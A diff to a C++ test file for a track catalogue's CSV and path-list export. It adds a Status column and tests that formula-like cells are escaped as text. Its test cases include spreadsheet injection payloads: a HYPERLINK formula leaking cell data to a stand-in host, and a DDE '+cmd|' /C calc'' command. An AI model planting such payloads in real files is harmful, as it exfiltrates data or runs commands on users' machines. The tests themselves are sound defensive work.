@@ -19,17 +19,63 @@ TEST(ListExport, CsvAndPathsForOtherPrograms) {
     const Catalogue c = catalogueOf(
         {{"Ring, \"the\" long one is long enough", "M\u00E4kinen", 255, -25536, "Ann Bob", "/t/a,b.trk", false},
          {"Hill", "", 0, 0, "", "/t/line\nfeed.trk", false}});
-    EXPECT_EQ(exportListAs(c.entries(), ListFormat::Csv),
-              "\xEF\xBB\xBFTrack,WS,Length,Author,Record/FL,Path\r\n"
-              "\"Ring, \"\"the\"\" long one is long enough\",255,-25536,M\u00E4kinen,Ann Bob,\"/t/a,b.trk\"\r\n"
-              "Hill,0,0,,,\"/t/line\nfeed.trk\"\r\n");
+    EXPECT_EQ(
+        exportListAs(c.entries(), ListFormat::Csv),
+        "\xEF\xBB\xBFTrack,WS,Length,Author,Record/FL,Path,Status\r\n"
+        "\"Ring, \"\"the\"\" long one is long enough\",255,-25536,M\u00E4kinen,Ann Bob,\"/t/a,b.trk\",not read\r\n"
+        "Hill,0,0,,,\"/t/line\nfeed.trk\",not read\r\n");
     const std::string grouped =
         exportListAs(c.entries(), ListFormat::Csv, [](const TrackEntry& e) { return e.worldSize == 0 ? 2u : 1u; });
-    EXPECT_NE(grouped.find("Path,Group\r\n"), std::string::npos);
-    EXPECT_NE(grouped.find("b.trk\",1\r\nHill"), std::string::npos);
-    EXPECT_TRUE(grouped.ends_with("feed.trk\",2\r\n"));
+    EXPECT_NE(grouped.find("Path,Status,Group\r\n"), std::string::npos);
+    EXPECT_NE(grouped.find("b.trk\",not read,1\r\nHill"), std::string::npos);
+    EXPECT_TRUE(grouped.ends_with("feed.trk\",not read,2\r\n"));
     EXPECT_EQ(exportListAs(c.entries(), ListFormat::Paths), "/t/a,b.trk\n/t/line\nfeed.trk\n");
     EXPECT_EQ(exportListAs(c.entries(), ListFormat::PathsNul), std::string("/t/a,b.trk\0/t/line\nfeed.trk\0", 28));
+}
+
+// What a spreadsheet would run stays text; what the program writes as a
+// number stays one; every export but the raw paths is UTF-8; the Status says
+// what the row does.
+TEST(ListExport, CsvCellsASpreadsheetReadsAsText) {
+    struct Case {
+        const char* what;
+        TrackEntry entry;
+        const char* problem;
+        std::string row;
+    };
+    const auto read = [](TrackEntry e, TrackState state) {
+        e.state = state;
+        return e;
+    };
+    const Case cases[] = {
+        {"a formula as the author",
+         read({"Ring", "=HYPERLINK(\"http://x\"&A1,\"Click\")", 5, -3, "", "/t/Ring.trk", false}, TrackState::Scanned),
+         "", "Ring,5,-3,\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"Click\"\")\",,/t/Ring.trk,read"},
+        {"every sign a formula starts with",
+         {"=1+1", "@SUM(A1)", 0, 0, "+cmd|' /C calc'!A0", "/t/=1+1.trk", false},
+         "",
+         "'=1+1,0,0,'@SUM(A1),'+cmd|' /C calc'!A0,/t/=1+1.trk,not read"},
+        {"a minus, a tab and a carriage return",
+         {"-x", "\tTab", 0, 0, "\rCR", "/t/-x.trk", false},
+         "",
+         "'-x,0,0,'\tTab,\"'\rCR\",/t/-x.trk,not read"},
+        {"a name that is no UTF-8",
+         read({"Caf\xe9 Ring", "", 0, 0, "", "/t/Caf\xe9 Ring.trk", false}, TrackState::OldFormat), "",
+         "Caf\u00e9 Ring,0,0,,,/t/Caf\u00e9 Ring.trk,old format"},
+        {"damaged, with its reason", read({"Cut", "", 0, 0, "", "/t/Cut.trk", false}, TrackState::Damaged),
+         "/t/Cut.trk: too short", "Cut,0,0,,,/t/Cut.trk,damaged: too short"},
+        {"unreadable, with its reason", read({"No", "", 0, 0, "", "/t/No.trk", false}, TrackState::Unreadable),
+         "/t/No.trk: Permission denied", "No,0,0,,,/t/No.trk,unreadable: Permission denied"},
+    };
+    for (const Case& k : cases) {
+        Catalogue c = catalogueOf({k.entry});
+        c.setText(c[0].problem, k.problem);
+        const std::string csv = exportListAs(c.entries(), ListFormat::Csv);
+        EXPECT_EQ(csv.substr(csv.find("\r\n") + 2), k.row + "\r\n") << k.what;
+    }
+    const Catalogue odd = catalogueOf({{"Caf\xe9", "", 0, 0, "", "/t/Caf\xe9.trk", false}});
+    EXPECT_EQ(exportListAs(odd.entries(), ListFormat::Paths), "/t/Caf\xe9.trk\n") << "paths stay raw";
+    EXPECT_NE(exportListText(odd.entries()).find("Caf\u00e9"), std::string::npos) << "the text list is UTF-8";
 }
 
 TEST(ListExport, EmptyCatalogueGivesThreeLines) {
